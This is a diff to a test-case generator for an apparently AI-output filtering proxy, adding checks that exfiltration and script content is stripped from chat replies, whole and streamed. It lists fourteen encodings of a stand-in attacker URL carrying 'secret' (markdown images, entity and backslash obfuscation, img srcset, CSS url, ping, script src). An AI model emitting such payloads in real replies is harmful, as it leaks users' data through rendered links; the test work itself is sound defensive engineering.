@@ -280,6 +280,29 @@ for kind in ("response.output_text.delta", "response.reasoning_summary_text.delt
     pieces = [{"type": kind, "item_id": "i", "output_index": 0, "content_index": 0, "summary_index": 0, "delta": text} for text in (f"key {HALVES[0]}", f"{HALVES[1]} ok")]
     row(f"F18-responses-{kind.split('.')[1]}", f"A key in two pieces of {kind}", "not both pieces reach the client", {"client_lacks": [HALVES[1]]},
         {"policy": MASK, "path": "/v1/responses"}, request={"model": "m", "input": "hi", "stream": True}, reply=sse(*pieces))  # fmt: skip
+# Active content in other spellings, whole and streamed.
+ACTIVE = {"guards": {"standard": {"output": {"exfiltration": "remove", "script": "remove"}}}}
+EVIL = "https://evil.test/c?d=secret"
+for name, text in {
+    "image": f"![x]({EVIL})",
+    "line-feed": f"![x](\n{EVIL})",
+    "reference-in-the-scheme": f"![x](&#104;{EVIL[1:]})",
+    "backslash": f"![x](https:\\/\\/{EVIL[8:]})",
+    "nested-bracket": f"![a [b] c]({EVIL})",
+    "definition": f"![x][1]\n\n[1]: {EVIL}\n",
+    "greater-than": f"<img alt=\">\" src={EVIL}>",
+    "form-feed": f"<img\falt=x\fsrc={EVIL}>",
+    "srcset": f"<img src=/a.png srcset='{EVIL} 2x'>",
+    "style": f"<p style=\"background:url({EVIL})\">x</p>",
+    "background": f"<table background={EVIL}><tr><td>x</table>",
+    "poster": f"<video poster={EVIL}></video>",
+    "ping": f"<a href=/a ping={EVIL}>x</a>",
+    "script": f"<script src={EVIL}></script>",
+}.items():
+    whole = {"choices": [{"index": 0, "message": {"role": "assistant", "content": f"See {text} there."}, "finish_reason": "stop"}]}
+    pieces = [delta(content=piece) for piece in ("See ", text[: len(text) // 2], text[len(text) // 2 :], " there.")]
+    for form, asked, reply in (("whole", chat("hi"), json_reply(json.dumps(whole))), ("stream", chat("hi", stream=True), sse(*pieces, delta("stop"), "[DONE]"))):
+        row(f"F8-{name}-{form}", f"Active content: {name}", "removed", {"status": [200], "client_lacks": ["evil.test"]}, {"policy": ACTIVE}, asked, reply=reply)  # fmt: skip
 row("F4b-images", "Pictures under `Images`, which Ollama reads as `images`", "refused", REFUSED, {"path": "/api/chat"},
     policy=OLLAMA | {"unscanned": {"default": "deny", "image": "deny"}},
     request={"model": "m", "messages": [{"role": "user", "content": "hi", "Images": ["iVBORw0KGgo="]}]})  # fmt: skip
